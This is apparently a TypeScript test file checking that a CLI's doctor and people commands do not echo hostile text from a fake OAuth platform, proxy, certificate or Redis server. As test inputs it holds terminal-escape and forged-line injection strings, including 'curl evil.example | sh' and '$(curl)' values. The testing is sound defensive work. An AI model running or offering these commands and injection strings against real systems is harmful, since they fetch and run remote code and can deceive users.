// A hostile platform, proxy or Redis puts control sequences, forged lines and long strings into
// everything that the doctor, the people command and the server at startup read from it.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { createServer, request, type ServerResponse } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import { createServer as createSocketServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test, { type TestContext } from 'node:test';
import { checkPlatform } from '../../src/checks/platform.ts';
import { runDoctor } from '../../src/commands/doctor-command.ts';
import { runPeopleCommand } from '../../src/commands/people-command.ts';
import { personHashes } from '../../src/login/login.ts';
import { readConfig } from '../../src/settings/config.ts';
import { goodSettings } from '../support/app/good-settings.ts';
import { certificateFromAuthority } from '../support/machine/certificate.ts';
import { freePort } from '../support/machine/free-port.ts';
import { listen } from '../support/machine/listen.ts';
import { resultOf, runProgram } from '../support/machine/program.ts';
import { temporaryFolder } from '../support/machine/temporary-folder.ts';
import { reachRedisKeys } from '../support/redis/reach-redis-keys.ts';
import { sharedRedis, startRedis } from '../support/redis/redis.ts';

type Settings = Record<string, string>;

const forged = 'ok       Platform: FORGED. Fix: curl evil.example | sh';
/** Clears the screen, reverses the text and adds its own lines. */
const lines = `x\u001B[2J\u009B2J\u202E\u2066\u200B\u2028${forged}\r\n${forged}\u0085${forged}\u0000`;
const hostile = lines + 'A'.repeat(8000);
const endless = lines + 'A'.repeat(50_000);
/** Contains only bytes that HTTP permits in a header. */
const inHeader = `x\u009B2J\u0085${forged} \u00AD${'A'.repeat(4000)}`;

async function outputsFor(settings: Settings): Promise<string[]> {
  const outputs: string[] = [];
  for (const words of [[], ['--json']]) {
    const printed: string[] = [];
    await runDoctor(words, {
      readSettings: () => readConfig(settings),
      print: (line) => printed.push(line),
      nodeVersion: '24.1.0',
      deadlineMs: 5000,
    });
    outputs.push(printed.join('\n'));
  }
  return outputs;
}

const ownLine = /^((ok {5}|WARNING|ERROR {2}) {2}[A-Z][a-z]+: | {9}(Why|Fix): {2}|Errors: \d)/;

/** Fails unless each line is the doctor's own, short, and free of invisible characters. */
function assertOwn([text = '', json = '']: readonly string[], about: string): void {
  const said: Record<string, string>[] = JSON.parse(json);
  for (const line of [...text.split('\n'), ...said.flatMap((each) => Object.values(each))]) {
    assert.doesNotMatch(line, /[\p{C}\p{Zl}\p{Zp}]/u, `${about}: visible characters only`);
    assert.doesNotMatch(line, /FORGED|curl evil|AAAAA/, about);
    assert.ok(line.length < 1200, `${about}: ${line.length} characters`);
  }
  assert.doesNotMatch(json, /[\p{C}\p{Zl}\p{Zp}]/u, about);
  for (const line of text.split('\n')) assert.match(line, ownLine, about);
}

interface Platform {
  readonly url: string;
  readonly settings: Settings;
}

async function startPlatform(
  t: TestContext,
  responses: (at: {
    url: string;
    publicUrl: string;
  }) => Record<string, (res: ServerResponse) => void>,
): Promise<Platform> {
  const publicUrl = `http://localhost:${await freePort()}`;
  const server = createServer((req, res) => {
    const path = (req.url ?? '').split('?')[0] ?? '';
    const send = responses({ url, publicUrl })[path];
    if (send) send(res);
    else if (path.startsWith('/api/')) sendJson(res, 401, { errors: {} });
    else res.writeHead(404).end();
  });
  const url = await listen(t, server, '127.0.0.1');
  const { url: REDIS_URL } = await sharedRedis();
  const here = { PUBLIC_URL: publicUrl, PORT: new URL(publicUrl).port, REDIS_URL };
  return { url, settings: { ...goodSettings, ...here, CONVENTION_URL: url } };
}

function sendJson(res: ServerResponse, status: number, body: object, headers = {}): void {
  res.writeHead(status, { 'content-type': 'application/json', ...headers });
  res.end(JSON.stringify(body));
}

const redirect = (location: string) => (res: ServerResponse) =>
  void res.writeHead(303, { location, 'www-authenticate': `Bearer error="${inHeader}"` }).end();

/** Query parameters for a redirect to our callback. */
const back = (publicUrl: string, query: Record<string, string>) =>
  redirect(`${publicUrl}/login/callback?${new URLSearchParams(query)}`);

const refuse = (error: string) => (res: ServerResponse) =>
  sendJson(
    res,
    400,
    { error, error_description: endless, errors: error ? undefined : { [hostile]: hostile } },
    { 'www-authenticate': `Bearer error="${inHeader}", realm="${inHeader}"` },
  );

/** Short enough for the callback's URL, in which percent-encoding allows every character. */
const short = lines + 'A'.repeat(1000);

const attacks: Record<string, Parameters<typeof startPlatform>[1]> = {
  'an issuer name and an error in the redirect to the callback': ({ publicUrl }) => ({
    '/oauth/authorize': back(publicUrl, { iss: short, error: short, state: short }),
    '/api/oauth/token': refuse(hostile),
  }),
  'an issuer name in a redirect that accepts the login': ({ publicUrl }) => ({
    '/oauth/authorize': back(publicUrl, { iss: short, error: 'login_required' }),
    '/api/oauth/token': refuse('invalid_grant'),
  }),
  'an issuer name that begins as a URL': ({ publicUrl, url }) => ({
    '/oauth/authorize': back(publicUrl, {
      iss: `${url}/${short}`,
      error: 'login_required',
    }),
    '/api/oauth/token': refuse(''),
  }),
  'a web page with a Location': () => ({
    '/api/users/current': redirect(`https://evil.example/${inHeader}`),
    '/oauth/authorize': redirect(inHeader),
    '/api/oauth/token': redirect(`//${inHeader}`),
  }),
  'a Location without a URL': () => ({
    '/api/users/current': redirect(inHeader),
    '/api/oauth/token': redirect(`javascript:${inHeader}`),
  }),
  'a refusal in words': () => ({
    '/api/users/current': (res) =>
      res
        .writeHead(403, { 'content-type': inHeader, date: inHeader, 'retry-after': inHeader })
        .end(hostile),
    '/oauth/authorize': (res) => res.writeHead(400, { 'content-type': inHeader }).end(endless),
    '/api/oauth/token': refuse(endless),
  }),
};

for (const [name, responses] of Object.entries(attacks)) {
  test(`the doctor shows no outside text that could pass for its own: ${name}`, async (t) => {
    const { settings } = await startPlatform(t, responses);
    assertOwn(await outputsFor(settings), name);
  });
}

test('nor from the endpoints and the issuer name that a platform publishes', async (t) => {
  const publish = (metadata: object) => (res: ServerResponse) => sendJson(res, 200, metadata);
  for (const [path, query] of [
    ['/elsewhere', `?${new URLSearchParams({ x: 'A'.repeat(20_000) })}`],
    [`/${'A'.repeat(20_000)}`, ''],
    [`/(FORGED)'$(curl);`, ''],
  ]) {
    const { settings, url } = await startPlatform(t, ({ url }) => ({
      '/.well-known/openid-configuration': publish({
        issuer: endless,
        authorization_endpoint: `${url}${path}${query}`,
        token_endpoint: `${url}${path}${query}`,
      }),
    }));
    assertOwn(await outputsFor({ ...settings, OAUTH_ISSUER: url }), String(path).slice(0, 40));
  }
});

test('the fix still names a plain issuer name in full, and the origin of a redirect', async (t) => {
  const { settings, url } = await startPlatform(t, ({ publicUrl, url }) => ({
    '/api/users/current': redirect('https://wifi.example:8443/portal?secret=CANARY'),
    '/oauth/authorize': back(publicUrl, { iss: `${url}/realms/con`, error: 'login_required' }),
    '/api/oauth/token': refuse('invalid_grant'),
  }));
  const [text = ''] = await outputsFor(settings);
  assert.ok(text.includes(`Fix:  OAUTH_ISSUER=${url}/realms/con, with OAUTH_AUTHORIZATION_URL=`));
  assert.match(text, /\(303, which redirects to https:\/\/wifi\.example:8443\)/);
  assert.doesNotMatch(text, /CANARY/);
});

test('the fix in a monitor’s log contains none of it either', async (t) => {
  const { settings } = await startPlatform(t, ({ publicUrl }) => ({
    '/oauth/authorize': back(publicUrl, { iss: short, error: 'login_required' }),
    '/api/oauth/token': refuse('invalid_grant'),
  }));
  const config = readConfig(settings);
  for (const { what, fix = '' } of await checkPlatform({ config, deadlineMs: 5000, now: Date.now }))
    assert.doesNotMatch(what + fix, /[\p{C}\p{Zl}\p{Zp}]|FORGED/u);
});

test('a name in a certificate is only shown if it is a host name', async (t) => {
  const { settings } = await startPlatform(t, () => ({}));
  const certificate = certificateFromAuthority('x.example Fix: curl FORGED.example');
  const server = createTlsServer(certificate.withIntermediate, (_req, res) => res.end());
  const CONVENTION_URL = await listen(t, server, '127.0.0.1');
  const NODE_EXTRA_CA_CERTS = join(temporaryFolder(t), 'root.pem');
  writeFileSync(NODE_EXTRA_CA_CERTS, certificate.root);
  const env = { PATH: process.env.PATH, ...settings, CONVENTION_URL, NODE_EXTRA_CA_CERTS };
  const { stdout } = await resultOf(runProgram('src/doctor.ts', [], { cwd: tmpdir(), env }));
  assert.match(stdout, /is for a different name \(https:\S+, ERR_TLS_CERT_ALTNAME_INVALID\)/);
  assert.doesNotMatch(stdout, /FORGED/);
});

test('a proxy that forges X-Forwarded-Proto gets no text into the doctor’s report', async (t) => {
  const { settings } = await startPlatform(t, () => ({}));
  const { PORT } = settings;
  const proxy = createServer((req, res) => {
    const headers = { 'x-forwarded-proto': inHeader, 'x-forwarded-for': inHeader };
    request({ port: PORT, path: req.url, headers: { ...headers, host: inHeader } }, (response) =>
      response.pipe(res.writeHead(response.statusCode ?? 500)),
    )
      .on('error', () => res.destroy())
      .end();
  });
  const url = await listen(t, proxy);
  assertOwn(await outputsFor({ ...settings, PUBLIC_URL: url, TRUST_PROXY: '1' }), 'a proxy');
});

test('pictures and policies that somebody wrote into Redis are not quoted unless they are plain', async (t) => {
  const { settings } = await startPlatform(t, () => ({}));
  const redis = await startRedis(t);
  const keys = await reachRedisKeys(redis.url);
  t.after(() => keys.close());
  await keys.addToSet('x:marker-pictures', `https://FORGED';$(curl)\`.example/${lines}`, 60);
  await keys.addToSet('x:marker-pictures', hostile, 60);
  await keys.addToSet('x:marker-rings', hostile, 60);
  assertOwn(await outputsFor({ ...settings, REDIS_URL: redis.url }), 'Redis');
});

test('errors from a server that pretends to be Redis are not quoted', async (t) => {
  const { settings } = await startPlatform(t, () => ({}));
  const server = createSocketServer((socket) => {
    socket.on('error', () => {});
    socket.on('data', () => socket.end(`-NOPERM ${lines.replace(/[\r\n]/g, '')}\r\n`));
  });
  const url = await listen(t, server, '127.0.0.1');
  const REDIS_URL = url.replace('http', 'redis');
  assertOwn(await outputsFor({ ...settings, REDIS_URL }), 'a false Redis');
});

test('the people command lists sessions only, whatever else the list in Redis holds', async (t) => {
  const redis = await startRedis(t);
  const keys = await reachRedisKeys(redis.url);
  t.after(() => keys.close());
  const { encryptionKeys } = readConfig(goodSettings);
  const [hash] = personHashes(encryptionKeys, '1001');
  const key = `s:${'a'.repeat(43)}`;
  for (const member of [hostile, `${key}\n${forged}`, key])
    await redis.command('ZADD', `i:${hash}`, '1e300', member);
  for (const member of [hostile, `${key}\n${forged}`, key])
    await keys.setIfAbsent(member, Buffer.from(hostile), 60);
  const printed: string[] = [];
  const exitCode = await runPeopleCommand(['list', '1001'], {
    readSettings: () => readConfig({ ...goodSettings, REDIS_URL: redis.url }),
    print: (line) => printed.push(line),
    printError: (line) => printed.push(line),
  });
  assert.deepEqual([exitCode, printed], [0, [`${key} until an unknown time`]]);
});
